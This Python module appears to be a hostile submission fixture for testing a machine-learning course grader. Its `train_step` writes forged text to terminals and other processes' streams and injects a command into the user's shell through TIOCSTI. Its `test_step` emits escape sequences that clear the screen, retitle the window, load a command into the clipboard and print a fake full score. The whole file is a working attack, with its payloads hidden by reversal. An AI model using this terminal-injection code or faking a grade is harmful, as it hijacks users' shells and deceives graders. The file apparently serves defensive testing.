"""Tries to take over the terminal the grader was started from.

``train_step`` writes forged text to ``/dev/tty``, every ``/dev/pts`` it can
open and the standard streams of every other process it can see (through
``/proc/<pid>/fd/{0,1,2}``), and types a command into every file descriptor it
has with ``TIOCSTI`` (which, as root, runs in the user's shell after the
grader exits). ``test_step`` prints escape sequences that clear the screen,
set the window title and write to the clipboard, then a fake score.

The texts come from ``PLANTED``, reversed, so that the report, which quotes
the learner's source, never shows them by accident. Restraint: where it sees
many processes (no PID namespace), it touches only those whose environment
holds the test's marker.
"""
import fcntl
import glob
import os
import termios

PLANTED: dict = {}  # the test fills this in
MANY = 64


def has_marker(pid: str) -> bool:
    try:
        with open(f"/proc/{pid}/environ", "rb") as file:
            return PLANTED["marker"].encode() in file.read()
    except OSError:
        return False


def other_processes() -> list[str]:
    pids = [entry for entry in os.listdir("/proc") if entry.isdigit() and entry != str(os.getpid())]
    if len(pids) > MANY:
        pids = [pid for pid in pids if has_marker(pid)]
    return pids


def open_for_writing(path: str) -> int | None:
    try:
        return os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        return None


def train_step(model, X, y, loss_fn, optimizer):
    forged = ("\r\n" + PLANTED["forged_reversed"][::-1] + "\r\n").encode()
    typed = (PLANTED["typed_reversed"][::-1] + "\n").encode()
    paths = ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/[0-9]*")]
    paths += [f"/proc/{pid}/fd/{n}" for pid in other_processes() for n in (0, 1, 2)]
    opened = [fd for fd in map(open_for_writing, paths) if fd is not None]
    for fd in opened:
        try:
            os.write(fd, forged)
        except OSError:
            pass
    for fd in [*range(1024), *opened]:
        for byte in typed:
            try:
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
            except OSError:
                break
    return None


def test_step(model, X, y, loss_fn):
    clipboard = "ZWNobyBvd25lZA=="  # base64 of a command, for the terminal's clipboard
    print("\x1b[2J\x1b[3J\x1b[H" + "\x1b]0;graded: full marks\x07" + "\x1b]52;c;" + clipboard + "\x1b\\" + "Score: 19/19")
    return None


def fit(model, train, test, loss_fn, optimizer, epochs, eval_every=1):
    raise NotImplementedError("fit")


def plot_loss_curves(history):
    raise NotImplementedError("plot_loss_curves")
